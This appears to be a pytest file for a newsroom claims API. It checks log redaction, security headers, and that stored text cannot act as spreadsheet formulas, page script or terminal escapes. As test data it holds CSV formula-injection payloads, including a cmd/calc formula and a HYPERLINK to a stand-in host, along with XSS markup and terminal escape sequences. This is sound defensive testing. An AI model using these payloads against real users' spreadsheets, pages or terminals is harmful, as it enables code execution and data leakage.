"""What leaves the server: no key in a log, headers of safety on every answer, words that act on nothing."""

import base64
import csv
import hashlib
import io
import json
import re
import sqlite3
import time
from pathlib import Path

import httpx
import pytest

from app.base.logs import printable, redacted
from tests.commands import Command
from tests.contract import operations, place
from tests.newsroom import Bases, Newsroom, SqliteBases, ok
from tests.served import environment, served

ELSEWHERE = "203.0.113.7"
WRONG = "otr_" + "wrong" * 8 + "xyz"
SOUGHT = "a-name-that-someone-looks-up"


# --- logs --------------------------------------------------------------------------------------


def use(client: httpx.Client, key: str, database: Path) -> list[str]:
    """Sends keys, right and wrong, wherever they can be written, and makes the server fail once. The ids of
    these requests.
    """
    answers = []
    for each in (key, WRONG):
        for headers in (
            {"Authorization": f"Bearer {each}"},
            {"Authorization": f"bearer {each}"},
            {"Authorization": f"Basic {each}"},
            {"Authorization": each},
            {"X-Request-Id": each},
            {"Cookie": each, "User-Agent": each, "Referer": f"https://example.org/{each}"},
        ):
            answers += [
                client.get("/v1/keys", headers=headers),
                client.get("/v1/claims", params={"q": f"{SOUGHT} {each}"}, headers=headers),
                client.get(f"/v1/claims/{each}", headers=headers),
                client.get(f"/{each}", headers=headers),
                client.post("/v1/claims", json={"text": each}, headers=headers),
                client.request(SOUGHT.upper(), "/v1/claims", headers=headers),
            ]
    with sqlite3.connect(database) as connection:
        connection.execute("DROP TABLE postings")
    connection.close()
    answers.append(client.get("/v1/search", params={"q": f"{SOUGHT} {key}"}))
    assert answers[-1].status_code == 500
    return [answer.headers["x-request-id"] for answer in answers]


@pytest.mark.parametrize("form", ["json", "text"])
def test_no_key_no_question_and_no_address_is_in_a_log(
    sqlite_bases: SqliteBases, command: Command, tmp_path: Path, form: str
) -> None:
    with sqlite_bases.fresh(seeded=True) as url:
        key = command(url, "key", "create", "Desk", "--role", "admin", RECORD_SECRET="").out.strip()
        assert re.fullmatch(r"otr_[\w-]{43}", key)
        env = environment(url, RECORD_LOG_FORMAT=form, RECORD_LOG_LEVEL="debug", RECORD_WRONG_KEYS="0")
        with served(env, tmp_path / "log") as server, server.client() as client:
            client.headers["X-Forwarded-For"] = ELSEWHERE
            ids = use(client, key, Path(url.removeprefix("sqlite:///")))
            assert len(ids) > 70
            said = server.said
            client.get("/healthz")  # the line of a request is written after its answer
        log = (tmp_path / "log").read_text()
    for secret in (key, key[4:], WRONG, WRONG[4:], SOUGHT, SOUGHT.upper(), ELSEWHERE):
        assert secret not in log + said
    known = [each for each in ids if not each.startswith("otr_")]
    assert all(each in log for each in known), "each request has its line"
    assert "Traceback" in log
    if form == "json":
        check_lines([json.loads(line) for line in log.splitlines()])


def check_lines(lines: list[dict[str, object]]) -> None:
    requests = [line for line in lines if line["message"] == "request"]
    for line in requests:
        assert line.keys() == {"time", "level", "message", "method", "route", "status", "ms", "request_id"}
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", str(line["time"]))
        assert isinstance(line["ms"], float)
        assert 0 <= line["ms"] < 60_000
    seen = {(line["method"], line["route"], line["status"]) for line in requests}
    assert {("GET", "/v1/claims/{claim_id}", 404), ("GET", None, 404), ("GET", "/v1/search", 500)} <= seen
    [fault] = [line for line in lines if "trace" in line]
    assert fault["request_id"] == next(line["request_id"] for line in requests if line["status"] == 500)


def test_an_address_is_logged_if_that_is_wanted(sqlite_bases: SqliteBases, tmp_path: Path) -> None:
    with sqlite_bases.fresh() as url:
        env = environment(url, RECORD_LOG_FORMAT="json", RECORD_LOG_ADDRESSES="true")
        with served(env, tmp_path / "log") as server, server.client() as client:
            client.get("/v1/claims", headers={"X-Forwarded-For": ELSEWHERE})
            client.get("/healthz")  # the line of a request is written after its answer
        lines = [json.loads(line) for line in (tmp_path / "log").read_text().splitlines()]
    assert [line["address"] for line in lines if line.get("route") == "/v1/claims"] == [ELSEWHERE]


def test_a_probe_that_finds_nothing_wrong_is_no_line_of_the_log(
    sqlite_bases: SqliteBases, tmp_path: Path
) -> None:
    with sqlite_bases.fresh() as url:
        env = environment(url, RECORD_LOG_FORMAT="json")
        with served(env, tmp_path / "log") as server, server.client() as client:
            for path in ("/healthz", "/readyz", "/metrics", "/v1/claims"):
                client.get(path)
            base = Path(url.removeprefix("sqlite:///"))
            base.rename(base.with_name("elsewhere"))
            while client.get("/readyz").status_code == 200:  # from memory, for a second
                time.sleep(0.1)
            client.get("/healthz")  # the line of a request is written after its answer
        lines = [json.loads(line) for line in (tmp_path / "log").read_text().splitlines()]
    asked = [(line["route"], line["status"]) for line in lines if line["message"] == "request"]
    assert asked == [("/metrics", 401), ("/v1/claims", 200), ("/readyz", 503)]


def test_a_key_is_kept_as_a_hash_only(room: Newsroom) -> None:
    _, token = room.key("editor")
    with room.db.read() as session:
        rows = session.connection().exec_driver_sql("SELECT * FROM keys").all()
    assert rows
    assert token[4:] not in str(rows)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", r"\x1b[31mred\x1b[0m"),
        ("\x9b2J", r"\x9b2J"),
        ("a\rb\x07\x08", r"a\rb\x07\x08"),
        ("\u202egnp.exe", r"\u202egnp.exe"),
        ("Владимир 普京 « 98 bcm »\n\tשלום", "Владимир 普京 « 98 bcm »\n\tשלום"),
    ],
)
def test_what_a_terminal_acts_on_is_written_out(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_a_key_is_redacted_wherever_it_stands() -> None:
    key = "otr_" + "aB3-_" * 8 + "xyz"
    for text in (key, f"Bearer {key}", f"x={key}&y", f"'{key}'", "bearer something.else"):
        assert key not in redacted(text)
        assert "something" not in redacted(text)
    assert redacted("GET /v1/claims 200") == "GET /v1/claims 200"


# --- headers -----------------------------------------------------------------------------------

ALWAYS = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "cross-origin-resource-policy": "same-origin",
}


def check_headers(answer: httpx.Response) -> None:
    for name, value in ALWAYS.items():
        assert answer.headers.get_list(name) == [value], f"{answer.request.method} {answer.url}: {name}"
    [policy] = answer.headers.get_list("content-security-policy")
    assert policy.startswith("default-src 'none'; ")
    assert "frame-ancestors 'none'" in policy
    assert "server" not in answer.headers
    assert "x-powered-by" not in answer.headers
    assert "strict-transport-security" not in answer.headers


def test_every_answer_has_the_headers_of_safety(furnished: Newsroom) -> None:
    """Every route is asked, on PostgreSQL every other of those that read; one that is read for something
    there, and for nothing, to have it again, or by HEAD, in turn.
    """
    first: dict[str, list[str]] = {}
    for number, operation in enumerate(operations(furnished)):
        if not operation.reads or number % 3 == 0:
            check_headers(furnished.anyone.request(operation.method, operation.nowhere))
        if operation.reads and (furnished.db.sqlite or number % 2):
            at = place(furnished, operation.path, first)
            answer = furnished.admin.get(at)
            check_headers(answer)
            if number % 3 == 1:
                known = {"If-None-Match": answer.headers.get("etag", "*")}
                check_headers(furnished.admin.get(at, headers=known))
            elif number % 3 == 2:
                check_headers(furnished.admin.head(at))
    for path in ("/", "/docs", "/guide", "/guide/trust", "/problems", "/openapi.json", "/healthz", "/readyz",
                 "/nothing", "/static-offline-docs/swagger-ui.css"):  # fmt: skip
        check_headers(furnished.anyone.get(path))
    preflight = {"Origin": "https://x.example", "Access-Control-Request-Method": "GET"}
    check_headers(furnished.anyone.options("/v1/claims", headers=preflight))
    check_headers(furnished.anyone.post("/v1/claims", content=b"x" * (9 * 1024 * 1024)))


def test_a_page_runs_its_own_scripts_and_no_others(room: Newsroom) -> None:
    for path, inline in (("/docs", "script"), ("/problems", "style")):
        answer = room.anyone.get(path)
        policy = dict(
            part.strip().split(" ", 1) for part in answer.headers["content-security-policy"].split(";")
        )
        found = re.findall(rf"<{inline}>(.*?)</{inline}>", answer.text, re.DOTALL)
        assert len(found) == 1
        digest = base64.b64encode(hashlib.sha256(found[0].encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy[f"{inline}-src"]
        assert "'unsafe-inline'" not in policy["script-src"]
        assert "'unsafe-eval'" not in policy["script-src"]
        assert re.findall(r"\son\w+=", answer.text) == []
        for asset in re.findall(r'(?:src|href)="([^"]+)"', answer.text):
            assert asset.startswith("/"), "'self' covers it"


def test_a_browser_that_came_by_tls_is_told_to_stay_with_it(room: Newsroom) -> None:
    with room.with_settings(hsts_seconds=31536000) as strict:
        safe = strict.anyone.get("/v1/claims", headers={"X-Forwarded-Proto": "https"})
        assert safe.headers["strict-transport-security"] == "max-age=31536000"
        assert "strict-transport-security" not in strict.anyone.get("/v1/claims").headers


# --- words -------------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
)


def test_no_word_of_a_claim_acts_in_a_spreadsheet_or_a_page(room: Newsroom) -> None:
    markup = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    for text in (*FORMULAS, markup):
        room.claim(text, context=text, occasion=text.strip())
    rows = list(csv.DictReader(io.StringIO(room.anyone.get("/v1/claims.csv").text, newline="")))
    cells = [cell for row in rows for cell in row.values()]
    assert len([cell for cell in cells if cell.startswith("'")]) >= 2 * len(FORMULAS)
    assert [cell for cell in cells if re.match(r"[=+@\t\r\n＝＋－＠]|-\D", cell)] == []
    answer = room.anyone.get("/v1/claims", params={"q": "alert"})
    assert answer.headers["content-type"] == "application/json"
    assert ok(answer)["data"][0]["text"] == markup
    refused = room.anyone.get(f"/v1/claims/{markup.replace('/', '')}")
    assert refused.headers["content-type"] == "application/problem+json"


def test_no_word_of_a_record_or_a_file_acts_on_a_terminal(
    bases: Bases, command: Command, tmp_path: Path
) -> None:
    acting = "\u009b31m\u202eDesk"
    file = tmp_path / "claims.ndjson"
    bad = [{"text": "a", "mode": "x\x1b[2J", "speakers": ["\x1b]0;title\x07"]}, {"\x1b[2J": 1}]
    file.write_text("\n".join(json.dumps(row) for row in bad))
    with bases.fresh() as url:
        assert command(url, "key", "create", acting, "--role", "reader").code == 0
        listed = command(url, "key", "list")
        refused = command(url, "import", str(file), "--type", "claim")
        unknown = command(url, "key", "revoke", "\x1b[2J")
    assert r"\x9b31m\u202eDesk" in listed.out
    assert (refused.code, unknown.code) == (1, 1)
    for done in (listed, refused, unknown):
        assert re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", done.out + done.err) == []
